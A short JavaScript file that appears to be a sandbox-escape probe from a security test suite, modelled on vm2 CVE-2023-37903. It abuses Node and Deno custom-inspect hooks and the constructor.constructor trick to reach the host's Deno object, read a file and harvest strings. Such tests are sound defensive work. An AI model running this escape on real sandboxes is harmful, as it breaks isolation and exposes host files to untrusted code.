// Tries: the inspect function and options that a value's own inspect method is handed when the host prints it.
// Origin: vm2 CVE-2023-37903 (custom inspect).

const found = [];
function dig(value, depth = 0) {
  if (value === null || !["object", "function"].includes(typeof value) || depth > 4) return;
  try {
    const platform = value.Deno ?? value.constructor.constructor("return Deno")();
    found.push(platform.args, platform.readTextFileSync(input.file));
  } catch { /* on */ }
  for (const name of Reflect.ownKeys(value)) {
    try {
      const own = Object.getOwnPropertyDescriptor(value, name);
      if (typeof own.value === "string") found.push(own.value);
      dig(own.value, depth + 1);
    } catch { /* on */ }
  }
}

const trap = {};
for (const name of ["nodejs.util.inspect.custom", "Deno.customInspect", "Deno.privateCustomInspect"]) {
  trap[Symbol.for(name)] = (...args) => {
    for (const arg of args) dig(arg);
    return "trap";
  };
}
console.log(trap, [trap], { trap });
console.error(new Error("x", { cause: trap }));
try {
  throw trap;
} catch (error) {
  console.log(error);
}
dig(console);
return found;
